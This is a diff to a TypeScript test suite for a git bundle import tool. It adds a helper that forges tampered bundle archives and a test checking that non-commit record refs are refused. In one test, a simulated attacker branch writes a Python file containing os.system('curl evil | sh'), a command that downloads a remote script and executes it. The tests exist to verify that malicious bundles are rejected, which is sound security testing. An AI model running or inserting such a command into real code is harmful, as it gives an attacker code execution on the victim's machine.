@@ -124,6 +124,25 @@ function cloneBundle(r: TestRepo, code: string, name: string): TestRepo {
   return new TestRepo(dir, r.env);
 }
 
+/**
+ * The attacker's forge for the git part: returns a function that writes the good archive `data`
+ * with `refs` of `r` bundled as its records.bundle (the manifest's sha256 and size made to match).
+ */
+async function recordsForger(r: TestRepo, data: string): Promise<(name: string, refs: string[]) => string> {
+  const dir = sandboxOf(r);
+  const good = await entriesOf(data);
+  const manifest = JSON.parse(good[0]!.body!.toString('utf8'));
+  return (name, refs) => {
+    const rec = path.join(dir, `${name}.bundle`);
+    r.git(['bundle', 'create', '-q', rec, ...refs]);
+    const bytes = readFileSync(rec);
+    const m = { ...manifest, records: { size: bytes.length, sha256: sha256(bytes) } };
+    const file = path.join(dir, `${name}.tar`);
+    writeFileSync(file, tarOf([{ name: 'manifest.json', body: Buffer.from(canonicalJson(m)) }, { name: 'records.bundle', body: bytes }, ...good.slice(2)]));
+    return file;
+  };
+}
+
 describe('bundles', () => {
   it('the golden manifest parses and round-trips byte-identical (canonical JSON); an unknown field or schema is refused', () => {
     const text = readFileSync(path.join(PROJECT, 'fixtures', 'bundle', 'manifest-v1.json'), 'utf8');
@@ -314,19 +333,7 @@ describe('bundles', () => {
   it('a records.bundle carrying any ref but the two record refs is refused before a ref of the victim moves', async () => {
     const { r } = twoCommits();
     const { code, data } = airGap(r);
-    const dir = sandboxOf(r);
-    const good = await entriesOf(data);
-    const manifest = JSON.parse(good[0]!.body!.toString('utf8'));
-    /** the good archive with `refs` bundled as its records (the manifest's sha256 and size made to match) */
-    const withRecords = (name: string, refs: string[]): string => {
-      const rec = path.join(dir, `${name}.bundle`);
-      r.git(['bundle', 'create', '-q', rec, ...refs]);
-      const bytes = readFileSync(rec);
-      const m = { ...manifest, records: { size: bytes.length, sha256: sha256(bytes) } };
-      const file = path.join(dir, `${name}.tar`);
-      writeFileSync(file, tarOf([{ name: 'manifest.json', body: Buffer.from(canonicalJson(m)) }, { name: 'records.bundle', body: bytes }, ...good.slice(2)]));
-      return file;
-    };
+    const withRecords = await recordsForger(r, data);
     // the attacker's branch, to be slipped into the victim's refs
     r.git(['checkout', '-q', '-b', 'evil']);
     r.write('src/train.py', 'import os; os.system("curl evil | sh")\n');
@@ -356,6 +363,39 @@ describe('bundles', () => {
       expect(stored()).toEqual(before.files);
     }
     expect(c.git(['cat-file', '-e', r.head()], { ok: [1, 128] }).code).not.toBe(0); // not even the object came in
+  });
+
+  it('a records.bundle whose record refs are not commits (notes -> a tree, snapshots -> a blob) is refused: the victim\'s record refs never point at them', async () => {
+    const { r } = twoCommits();
+    const { code, data } = airGap(r);
+    const withRecords = await recordsForger(r, data);
+    const notes = r.git(['rev-parse', 'refs/notes/gitrepro']).stdout.trim();
+    const snapshots = r.git(['rev-parse', 'refs/gitrepro/snapshots']).stdout.trim();
+    const blob = r.git(['hash-object', '-w', '--stdin'], { input: 'not a snapshot chain\n' }).stdout.trim();
+    r.git(['update-ref', 'refs/notes/gitrepro', `${notes}^{tree}`]);
+    const treeNotes = withRecords('tree-notes', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);
+    r.git(['update-ref', 'refs/notes/gitrepro', notes]);
+    r.git(['update-ref', 'refs/gitrepro/snapshots', blob]);
+    const blobSnapshots = withRecords('blob-snapshots', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);
+    r.git(['update-ref', 'refs/gitrepro/snapshots', snapshots]);
+
+    const c = cloneBundle(r, code, 'non-commit-victim');
+    // the victim's record refs as a fresh clone of the code bundle has them: none of its own yet
+    for (const ref of ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']) c.git(['update-ref', '-d', ref]);
+    const state = path.join(c.gitDir(), 'gitrepro');
+    const stored = (): Record<string, number> => Object.fromEntries(Object.entries(listing(state)).filter(([f]) => f !== 'config.json'));
+    const before = { files: stored(), refs: c.git(['for-each-ref']).stdout };
+    for (const [file, what] of [[treeNotes, /refs\/notes\/gitrepro is a tree, not a commit/], [blobSnapshots, /refs\/gitrepro\/snapshots is a blob, not a commit/]] as const) {
+      const imp = c.gr(['bundle', 'import', file], { ok: [0, 1, 2] });
+      expect(imp.stderr).toMatch(/GITREPRO_BUNDLE_INVALID/);
+      expect(imp.stderr).toMatch(what);
+      expect(imp.code).toBe(1);
+      expect(c.git(['for-each-ref']).stdout).toBe(before.refs);
+      expect(stored()).toEqual(before.files);
+    }
+    // and the good one imports afterwards (before the fix: "not a valid 'commit' object")
+    expect(c.grJson(['bundle', 'import', data]).added).toBe(5);
+    expect(c.git(['cat-file', '-t', 'refs/notes/gitrepro']).stdout.trim()).toBe('commit');
   });
 
   it('verify reports a file that is not a tar, or not a gitrepro bundle, in one line with exit 1', () => {
